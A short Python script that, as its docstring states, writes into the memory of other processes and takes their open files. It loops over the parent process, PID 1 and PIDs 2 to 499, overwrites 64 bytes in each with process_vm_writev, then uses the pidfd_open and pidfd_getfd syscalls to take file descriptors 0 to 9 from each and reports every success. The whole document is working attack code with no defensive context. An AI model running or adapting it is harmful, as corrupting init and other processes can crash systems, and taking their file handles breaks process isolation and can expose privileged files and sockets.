"""Writes into the memory of other processes and takes their open files."""

import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
space = ctypes.create_string_buffer(64)
part = (ctypes.c_void_p * 2)(ctypes.addressof(space), 64)
for pid in [os.getppid(), 1, *range(2, 500)]:
    libc.process_vm_writev(pid, part, 1, part, 1, 0)
    number = libc.syscall(434, pid, 0)
    for fd in range(10):
        if libc.syscall(438, number, fd, 0) >= 0:
            print("CONNECTED", pid, fd)
